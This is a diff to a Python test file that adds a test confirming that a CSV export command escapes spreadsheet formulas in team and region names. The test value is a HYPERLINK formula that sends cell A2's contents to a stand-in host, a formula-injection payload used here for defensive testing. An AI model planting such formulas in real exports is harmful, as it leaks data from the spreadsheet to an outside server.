@@ -266,3 +266,18 @@ def test_export_ld_return_counts_reports_issued_and_corrections_once(tmp_path):
     assert rows[str(a0.public_id)]["reports_issued_types"] == "court_bail_remand;custody_advice"
     assert rows[str(a1.public_id)]["reports_issued_count"] == "0"
     assert rows[str(a1.public_id)]["reports_issued_types"] == ""
+
+
+def test_export_ld_return_cannot_carry_a_spreadsheet_formula(tmp_path):
+    known = build_known()
+    hostile = '=HYPERLINK("https://example.invalid/?d="&A2,"Open")'
+    known.team_a.name = hostile
+    known.team_a.save()
+    known.region.name = "@Staffordshire"
+    known.region.save()
+    out = tmp_path / "return.csv"
+    call_command("export_ld_return", month=known.month.key, region="@Staffordshire", out=str(out))
+    _, rows = _read(out)
+    assert {r["team"] for r in rows} == {"'" + hostile, "Stafford court L&D"}
+    assert {r["region"] for r in rows} == {"'@Staffordshire"}
+    assert {r["onward_referrals_count"] for r in rows} <= {"0", "1", "2", "3"}
